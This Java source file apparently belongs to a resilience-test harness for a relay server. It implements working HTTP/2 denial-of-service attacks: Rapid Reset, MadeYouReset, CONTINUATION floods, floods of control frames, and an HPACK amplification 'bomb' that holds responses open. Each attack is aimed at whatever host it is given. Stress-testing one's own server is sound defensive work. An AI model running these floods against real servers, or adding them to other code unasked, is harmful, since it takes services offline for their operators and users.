package io.mysocket.relay.attack;

import static io.mysocket.relay.attack.Frames.END_HEADERS;
import static io.mysocket.relay.attack.Frames.END_STREAM;

import java.io.IOException;
import java.time.Duration;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import java.util.function.IntFunction;

/** Attacks with frames of HTTP/2. */
final class Http2Attacks {
  private static final int BATCH = 50;

  /** Frames of a connection, as no bound of the relay is above it. */
  private static final int ENOUGH = 5_000;

  /** Attackers share the machine with what they attack. */
  private static final Duration BREATH = Duration.ofMillis(1);

  private Http2Attacks() {}

  /** CVE-2023-44487: requests taken back at once. */
  static Attack rapidReset() {
    return (place, source, on) -> {
      byte[] get = Frames.get(place.host(), "/");
      flood(
          place,
          source,
          on,
          nth ->
              Frames.join(
                  Frames.headers(2 * nth + 1, END_HEADERS | END_STREAM, get),
                  Frames.reset(2 * nth + 1)));
    };
  }

  /** CVE-2025-8671: requests that the relay has to reset, for a fault of each. */
  static Attack madeYouReset() {
    return (place, source, on) -> {
      byte[] post = Frames.post(place.host(), "/");
      flood(
          place,
          source,
          on,
          nth ->
              Frames.join(
                  Frames.headers(2 * nth + 1, END_HEADERS, post),
                  Frames.windowUpdate(2 * nth + 1, 0)));
    };
  }

  /** CVE-2024-27316: a head without an end. */
  static Attack continuations() {
    return (place, source, on) -> {
      byte[] get = Frames.get(place.host(), "/");
      flood(
          place,
          source,
          on,
          nth -> nth == 0 ? Frames.headers(1, 0, get) : Frames.continuation(1, 0));
    };
  }

  /** The same, each part as large as it may be. */
  static Attack largeContinuations() {
    byte[] part = Frames.kept("x", "y".repeat(16_000));
    return (place, source, on) -> {
      byte[] get = Frames.get(place.host(), "/");
      flood(
          place,
          source,
          on,
          nth -> nth == 0 ? Frames.headers(1, 0, get) : Frames.continuation(1, 0, part));
    };
  }

  static Attack settings() {
    return (place, source, on) -> flood(place, source, on, _ -> Frames.settings());
  }

  static Attack pings() {
    return (place, source, on) -> flood(place, source, on, _ -> Frames.ping());
  }

  static Attack priorities() {
    return (place, source, on) -> flood(place, source, on, _ -> Frames.priority(1));
  }

  static Attack windowUpdates() {
    return (place, source, on) -> flood(place, source, on, _ -> Frames.windowUpdate(0, 1));
  }

  static Attack emptyData() {
    return (place, source, on) -> {
      byte[] post = Frames.post(place.host(), "/");
      flood(
          place,
          source,
          on,
          nth -> nth == 0 ? Frames.headers(1, END_HEADERS, post) : Frames.data(1));
    };
  }

  /** Until it is cut off. */
  private static void flood(
      Place place, String source, BooleanSupplier on, IntFunction<byte[]> frames)
      throws IOException {
    try (Line line = Line.secure(place, source, "h2").listening()) {
      line.send(Frames.preface());
      for (int nth = 0; nth < ENOUGH && on.getAsBoolean() && !line.isOver(); nth += BATCH) {
        byte[][] batch = new byte[BATCH][];
        for (int i = 0; i < BATCH; i++) {
          batch[i] = frames.apply(nth + i);
        }
        line.send(Frames.join(batch));
        LockSupport.parkNanos(BREATH.toNanos());
      }
    }
  }

  /**
   * The HTTP/2 bomb: requests of some bytes that become 15 KiB each by references to one field, for
   * answers that may not be sent as their window is zero; held.
   *
   * @param path what is asked for
   */
  static Attack bomb(String path) {
    return (place, source, on) -> {
      byte[] get = Frames.get(place.host(), path);
      byte[] large = Frames.kept("x-bomb", "y".repeat(2_960));
      try (Line line = Line.secure(place, source, "h2").listening()) {
        line.send(Frames.preface(Frames.INITIAL_WINDOW, 0));
        line.send(Frames.headers(1, END_HEADERS | END_STREAM, Frames.join(get, large)));
        byte[] again = Frames.join(get, Frames.keptAgain(5));
        for (int stream = 3; stream < 200; stream += 2) {
          line.send(Frames.headers(stream, END_HEADERS | END_STREAM, again));
        }
        Pause.until(() -> !on.getAsBoolean() || line.isOver());
      }
    };
  }
}
